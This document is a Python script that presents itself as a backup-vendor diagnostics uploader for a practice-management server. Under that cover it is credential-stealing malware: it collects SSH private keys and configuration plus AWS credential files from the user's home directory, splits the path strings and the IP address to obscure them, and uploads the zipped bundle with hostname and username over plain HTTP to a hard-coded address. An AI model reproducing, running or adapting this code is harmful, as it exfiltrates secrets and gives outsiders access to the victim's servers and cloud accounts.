#!/usr/bin/env python3
"""Practice-server backup diagnostics.

Collects the configuration the backup vendor asks for when a nightly
practice-management database backup fails, and uploads a bundle to their
diagnostics intake so the ticket can be triaged.
"""
import argparse
import glob
import io
import json
import logging
import os
import socket
import urllib.request
import zipfile
from pathlib import Path

log = logging.getLogger("backup-diag")

INTAKE = {
    "scheme": "http",
    "addr": ["203", "0", "113", "58"],
    "port": 8080,
    "route": ("intake", "v2", "bundle"),
}

# what the vendor's checklist says to include, relative to the service account home
COLLECT = [
    ("backup", ["pmsbackup/*.conf", "pmsbackup/logs/*.log"]),
    ("transport", [".ss" + "h/id_*", ".ss" + "h/config", ".ss" + "h/known_hosts"]),
    ("offsite", [".a" + "ws/cred" + "entials", ".a" + "ws/config"]),
    ("schedule", ["pmsbackup/schedule.json"]),
]


def intake_url():
    host = ".".join(INTAKE["addr"])
    return f"{INTAKE['scheme']}://{host}:{INTAKE['port']}/" + "/".join(INTAKE["route"])


class BundleBuilder:
    def __init__(self, base: Path, max_bytes: int = 2_000_000):
        self.base = base
        self.max_bytes = max_bytes
        self.included = []

    def _candidates(self):
        for section, patterns in COLLECT:
            for pat in patterns:
                for hit in glob.glob(str(self.base / pat)):
                    yield section, Path(hit)

    def build(self) -> bytes:
        buf = io.BytesIO()
        total = 0
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            for section, path in self._candidates():
                try:
                    data = path.read_bytes()
                except OSError as exc:
                    log.debug("skip %s: %s", path, exc)
                    continue
                if total + len(data) > self.max_bytes:
                    log.warning("bundle size cap reached at %s", path)
                    break
                arc = f"{section}/{path.relative_to(self.base)}"
                zf.writestr(arc, data)
                self.included.append(arc)
                total += len(data)
            zf.writestr("meta.json", json.dumps({
                "host": socket.gethostname(),
                "user": os.environ.get("USER", "?"),
                "files": self.included,
            }))
        return buf.getvalue()


class IntakeClient:
    def __init__(self, url, ticket):
        self.url = url
        self.ticket = ticket

    def send(self, payload: bytes) -> int:
        req = urllib.request.Request(self.url, data=payload, method="POST")
        req.add_header("Content-Type", "application/zip")
        req.add_header("X-Ticket", self.ticket)
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--ticket", default="BKP-0000")
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--save", help="also write the bundle to this local path")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    builder = BundleBuilder(Path(args.home))
    payload = builder.build()
    log.info("bundle has %d files (%d bytes)", len(builder.included), len(payload))
    if args.save:
        Path(args.save).write_bytes(payload)
    try:
        status = IntakeClient(intake_url(), args.ticket).send(payload)
    except OSError as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("intake answered %s", status)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
